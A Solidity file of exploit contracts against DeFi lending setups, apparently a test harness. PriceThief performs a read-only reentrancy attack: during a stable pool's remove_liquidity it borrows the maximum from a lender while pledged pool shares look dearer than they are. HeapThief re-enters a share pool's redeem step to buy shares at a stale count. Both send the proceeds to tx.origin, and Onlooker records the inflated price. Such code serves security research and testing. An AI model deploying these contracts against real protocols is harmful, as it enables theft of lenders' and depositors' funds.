// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IToken} from "./Markets.sol";

interface IStablePool {
    function add_liquidity(uint256[2] calldata, uint256) external payable returns (uint256);
    function remove_liquidity(uint256, uint256[2] calldata) external;
    function balanceOf(address) external view returns (uint256);
    function get_virtual_price() external view returns (uint256);
}

interface IShareLender {
    function pledge(uint256) external;
    function limit(address) external view returns (uint256);
    function borrow(uint256) external;
}

/// Borrows in the middle of removing liquidity, when shares look dearer than they are.
contract PriceThief {
    IShareLender private lender;
    IToken private dollar;
    bool private acts;
    uint256 public saw;

    function own_borrow(IStablePool pool, IToken coin, IShareLender lender_, IToken dollar_, uint256 pledged) external payable {
        (lender, dollar) = (lender_, dollar_);
        coin.approve(address(pool), type(uint256).max);
        IToken(address(pool)).approve(address(lender), type(uint256).max);
        uint256 shares = pool.add_liquidity{value: msg.value}([msg.value, coin.balanceOf(address(this))], 0);
        lender.pledge(pledged);
        acts = true;
        pool.remove_liquidity(shares - pledged, [uint256(0), 0]);
        acts = false;
        dollar.transfer(tx.origin, dollar.balanceOf(address(this)));
        coin.transfer(tx.origin, coin.balanceOf(address(this)));
        (bool ok, ) = tx.origin.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (!acts) return;
        uint256 most = lender.limit(address(this));
        uint256 there = dollar.balanceOf(address(lender));
        lender.borrow(most < there ? most : there);
    }
}

interface IHeap {
    function join() external payable returns (uint256);
    function redeem(uint256) external;
    function balanceOf(address) external view returns (uint256);
}

interface IHeapShop {
    function buy() external payable;
}

/// Buys shares while the heap's ether has left already and the shares are still counted.
contract HeapThief {
    IHeapShop private shop;
    uint256 private budget;

    function own_squeeze(IHeap heap, IHeapShop shop_, uint256 budget_) external payable {
        uint256 shares = heap.join{value: msg.value - budget_}();
        (shop, budget) = (shop_, budget_);
        heap.redeem(shares);
        heap.redeem(heap.balanceOf(address(this)));
        (bool ok, ) = tx.origin.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (budget == 0) return;
        uint256 spend = budget;
        budget = 0;
        shop.buy{value: spend}();
    }
}

/// Only looks at the price in the middle of removing liquidity, and leaves.
contract Onlooker {
    IStablePool private pool;
    uint256 public saw;

    function leave(IStablePool pool_, IToken coin) external payable {
        pool = pool_;
        coin.approve(address(pool), type(uint256).max);
        uint256 shares = pool.add_liquidity{value: msg.value}([msg.value, coin.balanceOf(address(this))], 0);
        pool.remove_liquidity(shares, [uint256(0), 0]);
        coin.transfer(tx.origin, coin.balanceOf(address(this)));
        (bool ok, ) = tx.origin.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        saw = pool.get_virtual_price();
    }
}
